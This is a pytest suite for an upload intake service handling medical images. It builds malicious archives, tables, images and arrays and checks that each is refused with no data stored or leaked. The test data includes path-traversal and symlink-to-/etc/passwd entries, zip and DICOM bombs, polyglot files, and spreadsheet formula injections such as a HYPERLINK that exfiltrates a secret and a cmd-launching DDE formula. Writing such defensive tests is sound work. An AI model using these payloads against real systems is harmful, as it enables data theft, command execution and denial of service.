"""Each kind of hostile or careless upload is a real file here; each is refused with its sentence.

Every case asserts the words that tell the owner what to mend, that nothing was stored, and that no
patient id or header value is in the refusal.
"""

import io
import stat
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
from PIL import Image
from pydicom.uid import (
    DeflatedExplicitVRLittleEndian,
    ExplicitVRBigEndian,
    JPEGBaseline8Bit,
    RLELossless,
)

from service.domain.errors import InputRefused
from tests.workers.intake import uploads
from tests.workers.intake.uploads import PERSONS, SECRET, Upload
from workers.intake import Limits, read_upload

FIRST = "images/000.png"
FIRST_DICOM = "images/000.dcm"

CASES: list = []


def case(words: str, *, file: str = "", schema=None, limits=None):
    """Register a builder of a hostile file, the words of its refusal and the file it names."""

    def register(build: Callable[[Path], Path]):
        CASES.append(pytest.param(build, words, file, schema, limits, id=build.__name__))
        return build

    return register


@pytest.mark.parametrize(("build", "words", "file", "schema", "limits"), CASES)
def test_it_is_refused_and_nothing_is_stored(tmp_path, build, words, file, schema, limits):
    path = build(tmp_path)
    out = tmp_path / "version"
    with pytest.raises(InputRefused) as caught:
        read_upload(
            path,
            schema=uploads.schema(**(schema or {})),
            tenant_key=b"key",
            out=out,
            limits=Limits(**(limits or {})),
        )
    refusal = caught.value
    assert words in refusal.sentence
    assert file in str(refusal.extensions["file"])
    assert all(refusal.extensions[key] for key in ("file", "value", "limit", "remedy"))
    assert str(refusal.extensions["remedy"]) in refusal.sentence
    assert SECRET not in refusal.sentence
    assert refusal.sentence.isprintable()
    assert not out.exists()
    assert not any(Path(tmp_path).glob("**/intake-*"))


def with_file(name: str, content: bytes | None = None, *, upload: Upload | None = None):
    """Build an upload that holds one more file."""

    def build(folder: Path) -> Path:
        made = upload or uploads.png_upload()
        made.files[name] = uploads.encode(uploads.picture(1)) if content is None else content
        return made.write(folder / "upload.zip")

    return build


def with_first(content: bytes, folder: Path, *, suffix: str = "png") -> Path:
    """Build an upload whose first image has this content."""
    made = uploads.png_upload()
    made.files = {name.replace(".png", f".{suffix}"): each for name, each in made.files.items()}
    made.rows[0][0] = f"images/000.{suffix}"
    made.files = {f"images/{n:03d}.png": uploads.encode(uploads.picture(n)) for n in range(PERSONS)}
    del made.files[FIRST]
    made.files[f"images/000.{suffix}"] = content
    return made.write(folder / "upload.zip")


def with_dicom(folder: Path, content: bytes) -> Path:
    made = uploads.dicom_upload()
    made.files[FIRST_DICOM] = content
    return made.write(folder / "upload.zip")


def with_cell(folder: Path, column: int, text: str, *, row: int = 0) -> Path:
    made = uploads.png_upload()
    made.rows[row][column] = text
    return made.write(folder / "upload.zip")


def with_arrays(folder: Path, **changes) -> Path:
    arrays = {**uploads.npz_arrays(), **changes}
    np.savez(folder / "upload.npz", **{k: v for k, v in arrays.items() if v is not None})
    return folder / "upload.npz"


# --- the archive ----------------------------------------------------------------------------------


@case("leaves the archive with '..'", file="../../evil.png")
def path_traversal(folder):
    return with_file("../../evil.png")(folder)


@case("leaves the archive with '..'", file="images/../../evil.png")
def path_traversal_in_the_middle(folder):
    return with_file("images/../../evil.png")(folder)


@case("the path is absolute", file="/etc/evil.png")
def absolute_path(folder):
    return with_file("/etc/evil.png")(folder)


@case("the path is absolute", file="C:/evil.png")
def windows_drive(folder):
    return with_file("C:/evil.png")(folder)


@case("backslash", file="images\\evil.png")
def backslashes(folder):
    return with_file("images\\evil.png")(folder)


@case("control characters", file="\\x1b")
def terminal_escape_in_a_name(folder):
    return with_file("images/\x1b[31mred.png")(folder)


@case("longer than 255 characters")
def endless_name(folder):
    return with_file("images/" + "a" * 300 + ".png")(folder)


@case("leaves the archive with '..'", file="../outside.png")
def traversal_in_the_csv(folder):
    return with_cell(folder, 0, "../outside.png")


@case("it is a link", file="images/link.png")
def symbolic_link(folder):
    made = uploads.png_upload().write(folder / "upload.zip")
    with zipfile.ZipFile(made, "a") as archive:
        entry = zipfile.ZipInfo("images/link.png")
        entry.create_system = 3
        entry.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(entry, "/etc/passwd")
    return made


@case("it is a link or a special file", file="images/pipe.png")
def named_pipe(folder):
    made = uploads.png_upload().write(folder / "upload.zip")
    with zipfile.ZipFile(made, "a") as archive:
        entry = zipfile.ZipInfo("images/pipe.png")
        entry.create_system = 3
        entry.external_attr = (stat.S_IFIFO | 0o777) << 16
        archive.writestr(entry, "")
    return made


@case("the name occurs twice", file=FIRST)
def duplicate_name(folder):
    made = uploads.png_upload().write(folder / "upload.zip")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(made, "a") as archive:
            archive.writestr(FIRST, uploads.encode(uploads.picture(77)))
    return made


@case("the name occurs twice", file="images/000.PNG")
def names_that_differ_by_case(folder):
    return with_file("images/000.PNG")(folder)


@case("an archive inside the archive", file="more.zip")
def nested_archive(folder):
    return with_file("more.zip", b"PK\x03\x04")(folder)


@case("an archive inside the archive", file="more.tar.gz")
def nested_tarball(folder):
    return with_file("more.tar.gz", b"\x1f\x8b")(folder)


@case("not of the format that its name claims", file=FIRST)
def nested_archive_with_an_image_suffix(folder):
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("a.png", b"")
    return with_first(inner.getvalue(), folder)


@case("unpacks like a zip bomb", file=FIRST)
def bomb_by_ratio(folder):
    return with_first(b"\x89PNG\r\n\x1a\n" + b"\0" * (32 << 20), folder)


@case("unpacks like a zip bomb", file="the upload", limits={"ratio_free_bytes": 1 << 20})
def bomb_of_many_small_files(folder):
    made = uploads.png_upload()
    for number in range(40):
        made.files[f"images/bomb{number}.png"] = b"\0" * 999_999
    return made.write(folder / "upload.zip")


@case("too many files", file="the upload", limits={"archive_entries": 40})
def bomb_by_count(folder):
    return uploads.png_upload().write(folder / "upload.zip")


@case("too many files", file="the upload")
def end_record_that_claims_a_billion_files(folder):
    made = uploads.png_upload().write(folder / "upload.zip")
    content = made.read_bytes()
    at = content.rfind(b"PK\x05\x06")
    wide = struct.pack("<4sQHHLLQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 10**9, 10**9, 46, 0)
    made.write_bytes(content[:at] + wide + content[at:])
    return made


@case("directory of the zip is too large", file="the upload", limits={"archive_entries": 100})
def directory_of_endless_names(folder):
    made = uploads.png_upload()
    with zipfile.ZipFile(folder / "upload.zip", "w") as archive:
        for name, content in made.files.items():
            entry = zipfile.ZipInfo(name)
            entry.comment = b"x" * 60_000
            archive.writestr(entry, content)
    return folder / "upload.zip"


@case("unpacks to too much", file="the upload", limits={"expanded_bytes": 10_000})
def bomb_by_total(folder):
    return uploads.png_upload().write(folder / "upload.zip")


@case("the file is too large", file=FIRST, limits={"image_file_bytes": 100})
def one_oversized_file(folder):
    return uploads.png_upload().write(folder / "upload.zip")


@case("overlap those of another entry")
def overlapping_entries(folder):
    made = uploads.png_upload().write(folder / "upload.zip", method=zipfile.ZIP_STORED)
    content = bytearray(made.read_bytes())
    first = content.find(b"PK\x01\x02")
    second = content.find(b"PK\x01\x02", first + 1)
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    made.write_bytes(content)
    return made


@case("do not match what the zip says", file=FIRST)
def lie_about_the_unpacked_size(folder):
    made = uploads.png_upload().write(folder / "upload.zip")
    content = bytearray(made.read_bytes())
    at = content.find(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<L", 40)
    made.write_bytes(content)
    return made


@case("do not match what the zip says", file=FIRST)
def damaged_bytes(folder):
    made = uploads.png_upload().write(folder / "upload.zip", method=zipfile.ZIP_STORED)
    content = bytearray(made.read_bytes())
    at = content.find(b"IDAT")
    content[at + 10] ^= 1
    made.write_bytes(content)
    return made


@case("it is encrypted", file=FIRST)
def encrypted_entry(folder):
    made = uploads.png_upload().write(folder / "upload.zip")
    content = bytearray(made.read_bytes())
    content[6] |= 1
    content[content.find(b"PK\x01\x02") + 8] |= 1
    made.write_bytes(content)
    return made


@case("compression is not supported", file=FIRST)
def unusual_compression(folder):
    return uploads.png_upload().write(folder / "upload.zip", method=zipfile.ZIP_LZMA)


@case("no zip or npz file", file="the upload")
def other_bytes_before_the_zip(folder):
    made = uploads.png_upload().write(folder / "upload.zip")
    made.write_bytes(b"MZ" + b"\0" * 100 + made.read_bytes())
    return made


@case("no zip or npz file", file="the upload")
def not_a_zip(folder):
    (folder / "upload.zip").write_text("file,patient_id,grade\n")
    return folder / "upload.zip"


@case("no zip or npz file", file="the upload")
def empty_file(folder):
    (folder / "upload.zip").touch()
    return folder / "upload.zip"


@case("no intact zip", file="the upload")
def cut_off_zip(folder):
    made = uploads.png_upload().write(folder / "upload.zip")
    made.write_bytes(made.read_bytes()[:-2000])
    return made


@case("the archive is empty", file="the upload")
def archive_of_folders_only(folder):
    with zipfile.ZipFile(folder / "upload.zip", "w") as archive:
        archive.writestr("images/", b"")
    return folder / "upload.zip"


@case("no zip or npz file", file="the upload")
def archive_of_nothing(folder):
    with zipfile.ZipFile(folder / "upload.zip", "w"):
        pass
    return folder / "upload.zip"


@case("neither an image nor the CSV", file="setup.exe")
def a_program(folder):
    return with_file("setup.exe", b"MZ")(folder)


@case("DICOM files and other images are mixed")
def two_kinds_of_image(folder):
    return with_file("images/extra.dcm", uploads.dicom(1))(folder)


# --- the table ------------------------------------------------------------------------------------


@case("not exactly one CSV", file="the upload")
def no_table(folder):
    made = uploads.png_upload()
    made.table_name = ""
    return made.write(folder / "upload.zip")


@case("not exactly one CSV", file="the upload")
def two_tables(folder):
    return with_file("other.csv", b"file,patient_id,grade\n")(folder)


@case("the CSV has no rows", file="labels.csv")
def table_without_rows(folder):
    made = uploads.png_upload()
    made.rows = []
    return made.write(folder / "upload.zip")


@case("the column 'file' is missing", file="labels.csv")
def empty_table(folder):
    return with_file("labels.csv", b"", upload=_without_table())(folder)


@case("the column 'grade' is missing", file="labels.csv")
def missing_label_column(folder):
    made = uploads.png_upload()
    made.header[2] = "kl"
    return made.write(folder / "upload.zip")


@case("the column 'patient_id' is missing", file="labels.csv")
def missing_person_column(folder):
    made = uploads.png_upload()
    made.header[1] = "person"
    return made.write(folder / "upload.zip")


@case("Separate the columns with commas", file="labels.csv")
def semicolons(folder):
    made = uploads.png_upload()
    made.delimiter = ";"
    return made.write(folder / "upload.zip")


@case("two columns have one name", file="labels.csv")
def repeated_column(folder):
    made = uploads.png_upload()
    made.header.append("grade")
    for row in made.rows:
        row.append("1")
    return made.write(folder / "upload.zip")


@case("not UTF-8", file="labels.csv")
def other_encoding(folder):
    made = uploads.png_upload()
    made.encoding = "utf-16"
    return made.write(folder / "upload.zip")


@case("NUL characters", file="labels.csv")
def nul_in_the_table(folder):
    return with_cell(folder, 1, "a\0b")


@case("another number of cells than the header", file="labels.csv")
def ragged_row(folder):
    made = uploads.png_upload()
    made.rows[3].append("extra")
    return made.write(folder / "upload.zip")


@case("cannot be parsed", file="labels.csv")
def open_quote(folder):
    return with_file(
        "labels.csv", b'file,patient_id,grade\n"images/000.png,1,1\n', upload=_without_table()
    )(folder)


@case("a cell that is too long", file="labels.csv")
def endless_cell(folder):
    return with_cell(folder, 1, "p" * 1000)


@case("spreadsheet formula in 'patient_id'", file="labels.csv")
def formula_as_person(folder):
    return with_cell(folder, 1, f'=HYPERLINK("http://x/{SECRET}")')


@case("spreadsheet formula in 'grade'", file="labels.csv")
def formula_as_label(folder):
    return with_cell(folder, 2, "+1+1")


@case("spreadsheet formula in 'file'", file="labels.csv")
def formula_as_file(folder):
    return with_cell(folder, 0, "@SUM(A1)")


@case("spreadsheet formula in column 4", file="labels.csv")
def formula_in_an_ignored_column(folder):
    made = uploads.png_upload()
    made.header.append("note")
    for row in made.rows:
        row.append("=cmd|' /C calc'!A0")
    return made.write(folder / "upload.zip")


@case("no value in column 'grade'", file="labels.csv")
def nan_label(folder):
    return with_cell(folder, 2, "NaN")


@case("no value in column 'grade'", file="labels.csv")
def empty_label(folder):
    return with_cell(folder, 2, "")


@case("no value in column 'patient_id'", file="labels.csv")
def nan_person(folder):
    return with_cell(folder, 1, "nan")


@case("no value in column 'patient_id'", file="labels.csv")
def empty_person(folder):
    return with_cell(folder, 1, "  ")


@case("a label that was not declared: 7", file=FIRST)
def unknown_label(folder):
    return with_cell(folder, 2, "7")


@case("a label that was not declared: 1.5", file=FIRST)
def fractional_label(folder):
    return with_cell(folder, 2, "1.5")


@case("a label that was not declared: 1e999", file=FIRST)
def infinite_label(folder):
    return with_cell(folder, 2, "1e999")


@case("the file has two labels", file=FIRST)
def one_file_with_two_labels(folder):
    made = uploads.png_upload()
    made.rows.append([FIRST, uploads.patient(0), "2"])
    return made.write(folder / "upload.zip")


@case("the file has two labels", file=FIRST)
def one_file_with_two_labels_by_another_spelling(folder):
    made = uploads.png_upload()
    made.rows.append([f"./images//{FIRST[7:]}", uploads.patient(0), "2"])
    return made.write(folder / "upload.zip")


@case("the file has two persons", file=FIRST)
def one_file_of_two_persons(folder):
    made = uploads.png_upload()
    made.rows.append([FIRST, uploads.patient(1), "0"])
    return made.write(folder / "upload.zip")


@case("the file is listed twice", file=FIRST)
def one_file_listed_twice(folder):
    made = uploads.png_upload()
    made.rows.append(list(made.rows[0]))
    return made.write(folder / "upload.zip")


@case("names a file that is not in the zip", file="images/gone.png")
def row_without_a_file(folder):
    made = uploads.png_upload()
    made.rows.append(["images/gone.png", uploads.patient(0), "1"])
    return made.write(folder / "upload.zip")


@case("no row of labels.csv names it", file="images/extra.png")
def file_without_a_row(folder):
    return with_file("images/extra.png")(folder)


@case("its person is in two splits", file="images/extra.png")
def person_in_two_splits(folder):
    made = uploads.png_upload()
    made.header.append("split")
    for row in made.rows:
        row.append("train")
    made.rows.append(["images/extra.png", uploads.patient(3), "1", "test"])
    made.files["images/extra.png"] = uploads.encode(uploads.picture(500))
    return made.write(folder / "upload.zip")


@case("too few persons: 49 persons", file="the upload")
def fewer_persons_than_the_minimum(folder):
    return uploads.png_upload(49).write(folder / "upload.zip")


@case("too few persons: 10 persons", file="the upload")
def many_images_of_few_persons(folder):
    made = uploads.png_upload(60)
    for number, row in enumerate(made.rows):
        row[1] = uploads.patient(number % 10)
    return made.write(folder / "upload.zip")


@case("too few images", file="the upload", schema={"unit": "record"})
def fewer_records_than_the_minimum(folder):
    return uploads.png_upload(20).write(folder / "upload.zip")


@case("too few persons", file="the upload", schema={"declared_count": 1000})
def far_fewer_persons_than_declared(folder):
    return uploads.png_upload(60).write(folder / "upload.zip")


@case("too many persons", file="the upload")
def far_more_persons_than_declared(folder):
    return uploads.png_upload(101).write(folder / "upload.zip")


# --- images ---------------------------------------------------------------------------------------


@case("another size than declared: 50000x50000", file=FIRST)
def png_that_claims_huge_dimensions(folder):
    return with_first(uploads.png_claiming(50_000, 50_000), folder)


@case("cannot be decoded", file="images/000.jpg")
def jpeg_that_claims_huge_dimensions(folder):
    content = bytearray(uploads.encode(uploads.picture(1), "JPEG"))
    at = content.find(b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    return with_first(bytes(content), folder, suffix="jpg")


@case("another size than declared: 32x32", file=FIRST)
def image_of_another_size(folder):
    return with_first(uploads.encode(uploads.picture(1, side=32)), folder)


@case("another bit depth than declared: 16 bits", file=FIRST)
def image_of_another_depth(folder):
    return with_first(uploads.encode(uploads.picture(1, dtype=np.uint16)), folder)


@case("another bit depth than declared: 8 bits", file=FIRST, schema={"bit_depth": 16})
def image_of_lower_depth(folder):
    return uploads.png_upload().write(folder / "upload.zip")


@case("another bit depth than declared: 8 bits", schema={"bit_depth": 16})
def jpeg_where_sixteen_bits_were_declared(folder):
    made = uploads.png_upload(
        encoder=lambda number: uploads.encode(uploads.picture(number), "JPEG"), suffix="jpg"
    )
    return made.write(folder / "upload.zip")


@case("not greyscale: RGB", file=FIRST)
def colour_png(folder):
    return with_first(uploads.encode(np.zeros((16, 16, 3), np.uint8)), folder)


@case("not greyscale of the declared depth", file="images/000.jpg")
def colour_jpeg(folder):
    content = uploads.encode(np.zeros((16, 16, 3), np.uint8), "JPEG")
    return with_first(content, folder, suffix="jpg")


@case("cut off", file=FIRST)
def truncated_png(folder):
    return with_first(uploads.encode(uploads.picture(1))[:-60], folder)


@case("cannot be decoded: fewer rows", file=FIRST)
def png_with_too_few_rows(folder):
    return with_first(uploads.png_claiming(16, 16), folder)


@case("cut off", file="images/000.jpg")
def truncated_jpeg(folder):
    content = uploads.encode(uploads.picture(1), "JPEG")
    return with_first(content[: len(content) // 2], folder, suffix="jpg")


@case("cannot be decoded", file="images/000.jpg")
def jpeg_with_half_its_scan(folder):
    content = uploads.encode(uploads.picture(1), "JPEG")
    return with_first(content[: len(content) // 2] + b"\xff\xd9", folder, suffix="jpg")


@case("not of the format that its name claims", file=FIRST)
def text_with_an_image_suffix(folder):
    return with_first(b"<script>alert(1)</script>", folder)


@case("not of the format that its name claims: empty file", file=FIRST)
def empty_image(folder):
    return with_first(b"", folder)


@case("not of the format that its name claims: JPEG", file=FIRST)
def jpeg_called_png(folder):
    return with_first(uploads.encode(uploads.picture(1), "JPEG"), folder)


@case("holds something besides one image", file=FIRST)
def png_and_zip_in_one_file(folder):
    hidden = io.BytesIO()
    with zipfile.ZipFile(hidden, "w") as archive:
        archive.writestr("payload", b"x")
    return with_first(uploads.encode(uploads.picture(1)) + hidden.getvalue(), folder)


@case("holds something besides one image", file="images/000.jpg")
def jpeg_and_zip_in_one_file(folder):
    hidden = io.BytesIO()
    with zipfile.ZipFile(hidden, "w") as archive:
        archive.writestr("payload", b"x")
    content = uploads.encode(uploads.picture(1), "JPEG") + hidden.getvalue()
    return with_first(content, folder, suffix="jpg")


@case("cannot be decoded: more rows", file=FIRST)
def png_with_a_bomb_of_rows(folder):
    content = uploads.png_claiming(16, 16, rows=100_000)
    return with_first(content, folder)


@case("interlaced", file=FIRST)
def interlaced_png(folder):
    content = bytearray(uploads.encode(uploads.picture(1)))
    content[28] = 1
    return with_first(bytes(content), folder)


@case("several images", file=FIRST)
def animated_png(folder):
    frames = [Image.fromarray(uploads.picture(number)) for number in (1, 2)]
    content = io.BytesIO()
    frames[0].save(content, "PNG", save_all=True, append_images=frames[1:])
    return with_first(content.getvalue(), folder)


# --- DICOM ----------------------------------------------------------------------------------------


@case("no DICOM file", file=FIRST_DICOM)
def text_with_a_dicom_suffix(folder):
    return with_dicom(folder, b"not a DICOM file" * 20)


@case("several frames: 40000 frames of 16x16", file=FIRST_DICOM)
def multi_frame_dicom_bomb(folder):
    return with_dicom(folder, uploads.dicom(0, NumberOfFrames=40_000))


@case("transfer syntax RLE Lossless", file=FIRST_DICOM)
def run_length_dicom_bomb(folder):
    return with_dicom(folder, _with_syntax(RLELossless))


@case("transfer syntax JPEG Baseline", file=FIRST_DICOM)
def compressed_dicom(folder):
    return with_dicom(folder, _with_syntax(JPEGBaseline8Bit))


@case("transfer syntax Deflated", file=FIRST_DICOM)
def deflated_dicom_bomb(folder):
    pixels = np.zeros((4096, 4096), np.uint8)
    bomb = uploads.dicom(0, pixels=pixels, syntax=DeflatedExplicitVRLittleEndian)
    assert len(bomb) < 64 << 10
    return with_dicom(folder, bomb)


@case("transfer syntax Explicit VR Big Endian", file=FIRST_DICOM)
def big_endian_dicom(folder):
    return with_dicom(folder, _with_syntax(ExplicitVRBigEndian))


@case("another size than declared: 60000x60000", file=FIRST_DICOM)
def dicom_that_claims_huge_dimensions(folder):
    return with_dicom(folder, uploads.dicom(0, Rows=60_000, Columns=60_000))


@case("another length than its header says", file=FIRST_DICOM)
def dicom_with_too_few_pixels(folder):
    return with_dicom(folder, uploads.dicom(0, PixelData=b"\0" * 100))


@case("another length than its header says: no pixel data", file=FIRST_DICOM)
def dicom_without_pixels(folder):
    whole = uploads.dicom(0)
    return with_dicom(folder, whole[: whole.rfind(b"\xe0\x7f\x10\x00")])


@case("another length than its header says: 206 bytes", file=FIRST_DICOM)
def truncated_dicom(folder):
    return with_dicom(folder, uploads.dicom(0)[:-50])


@case("broken and cannot be read", file=FIRST_DICOM)
def dicom_cut_off_in_its_header(folder):
    return with_dicom(folder, uploads.dicom(0)[:-260])


@case("another bit depth than declared: 16 of 16 bits", file=FIRST_DICOM)
def dicom_of_another_depth(folder):
    return with_dicom(folder, uploads.dicom(0, pixels=uploads.picture(0, dtype=np.uint16)))


@case("8 of 8 bits, signed", file=FIRST_DICOM)
def signed_dicom(folder):
    return with_dicom(folder, uploads.dicom(0, PixelRepresentation=1))


@case("exceed the bits that its header says", file=FIRST_DICOM, schema={"bit_depth": 16})
def dicom_with_values_beyond_its_bits(folder):
    pixels = uploads.picture(0, dtype=np.uint16)
    made = uploads.dicom_upload(pixels=pixels, BitsStored=12, HighBit=11)
    return made.write(folder / "upload.zip")


@case("not greyscale: RGB", file=FIRST_DICOM)
def colour_dicom(folder):
    content = uploads.dicom(0, PhotometricInterpretation="RGB", SamplesPerPixel=3)
    return with_dicom(folder, content)


@case("text is burned into its pixels", file=FIRST_DICOM)
def burned_in_text(folder):
    return with_dicom(folder, uploads.dicom(0, BurnedInAnnotation="YES"))


@case("nothing says whose image it is", file=FIRST_DICOM)
def dicom_without_a_person(folder):
    return with_dicom(folder, uploads.dicom(0, person=""))


@case("PatientID is too long", file=FIRST_DICOM)
def dicom_with_an_endless_person(folder):
    return with_dicom(folder, uploads.dicom(0, person="p" * 5000))


@case("its header names another person than the CSV", file=FIRST_DICOM)
def dicom_of_another_person_than_the_csv_says(folder):
    made = uploads.dicom_upload()
    made.header.append("patient_id")
    for number, row in enumerate(made.rows):
        row.append(uploads.patient(number))
    made.rows[0][2] = uploads.patient(1)
    return made.write(folder / "upload.zip")


@case("nested too deeply", file=FIRST_DICOM)
def dicom_of_nested_sequences(folder):
    start = uploads.dicom(0)
    at = start.rfind(b"\xe0\x7f\x10\x00")
    # Undefined lengths, so that depth costs eight bytes a level and the parser must descend.
    opening = b"\x08\x00\x10\x11SQ\0\0\xff\xff\xff\xff" + b"\xfe\xff\x00\xe0\xff\xff\xff\xff"
    return with_dicom(folder, start[:at] + opening * 3000)


# --- npz ------------------------------------------------------------------------------------------


@case("pickled objects", file="train_patient_ids.npy")
def pickle_in_an_npz(folder):
    ids = np.asarray([uploads.patient(number) for number in range(PERSONS)], dtype=object)
    return with_arrays(folder, train_patient_ids=ids)


@case("the array patient_ids is missing")
def npz_without_persons(folder):
    return with_arrays(folder, train_patient_ids=None)


@case("the array labels is missing")
def npz_without_labels(folder):
    return with_arrays(folder, train_labels=None)


@case("holds no images", file="the upload")
def npz_without_images(folder):
    np.savez(folder / "upload.npz", table=np.zeros(3))
    return folder / "upload.npz"


@case("other values than integers or short text", file="train_labels.npy")
def npz_with_nan_labels(folder):
    labels = (np.arange(PERSONS) % 3).astype(float)
    labels[4] = np.nan
    return with_arrays(folder, train_labels=labels)


@case("has not one value per image", file="train_labels.npy")
def npz_with_several_labels_per_image(folder):
    return with_arrays(folder, train_labels=np.zeros((PERSONS, 3), np.int64))


@case("a label that was not declared: 9", file="train_labels.npy")
def npz_with_an_unknown_label(folder):
    return with_arrays(folder, train_labels=np.full(PERSONS, 9))


@case("another size than declared: 8x16", file="train_images.npy")
def npz_of_another_size(folder):
    return with_arrays(folder, train_images=np.zeros((PERSONS, 16, 8), np.uint8))


@case("another bit depth than declared", file="train_images.npy")
def npz_of_another_depth(folder):
    return with_arrays(folder, train_images=np.zeros((PERSONS, 16, 16), np.float32))


@case("no stack of greyscale images", file="train_images.npy")
def npz_of_colour_images(folder):
    return with_arrays(folder, train_images=np.zeros((PERSONS, 16, 16, 3), np.uint8))


@case("stored column by column", file="train_images.npy")
def npz_in_fortran_order(folder):
    images = np.asfortranarray(uploads.npz_arrays()["train_images"])
    return with_arrays(folder, train_images=images)


@case("nothing says whose image it is", file="train_images[0]")
def npz_with_an_empty_person(folder):
    return with_arrays(folder, train_patient_ids=np.full(PERSONS, "nan"))


@case("its person is in two splits", file="test_images[0]")
def npz_with_a_person_in_two_splits(folder):
    arrays = uploads.npz_arrays()
    extra = {name.replace("train", "test"): array[:1] for name, array in arrays.items()}
    return with_arrays(folder, **extra)


@case("another size than its header says", file="train_images.npy")
def npz_whose_header_lies(folder):
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        header, {"descr": "|u1", "fortran_order": False, "shape": (10**9, 16, 16)}
    )
    arrays = uploads.npz_arrays()
    with zipfile.ZipFile(folder / "upload.npz", "w") as archive:
        archive.writestr("train_images.npy", header.getvalue())
        for name in ("train_labels", "train_patient_ids"):
            buffer = io.BytesIO()
            np.save(buffer, arrays[name])
            archive.writestr(f"{name}.npy", buffer.getvalue())
    return folder / "upload.npz"


@case("no npy array", file="train_images.npy")
def npz_of_other_bytes(folder):
    with zipfile.ZipFile(folder / "upload.npz", "w") as archive:
        archive.writestr("train_images.npy", b"not an array")
        archive.writestr("train_labels.npy", b"not an array")
        archive.writestr("train_patient_ids.npy", b"not an array")
    return folder / "upload.npz"


@case("too many images", file="the upload", limits={"records": 10})
def npz_of_too_many_records(folder):
    return with_arrays(folder)


def _without_table() -> Upload:
    made = uploads.png_upload()
    made.table_name = ""
    return made


def _with_syntax(syntax: str) -> bytes:
    """Return a DICOM file that says another transfer syntax than the one it was written in."""
    content = uploads.dicom(0)
    start = content.find(b"\x02\x00\x10\x00UI")
    (length,) = struct.unpack_from("<H", content, start + 6)
    value = str(syntax).encode()
    value += b"\0" * (len(value) % 2)
    element = content[start : start + 6] + struct.pack("<H", len(value)) + value
    return content[:start] + element + content[start + 8 + length :]
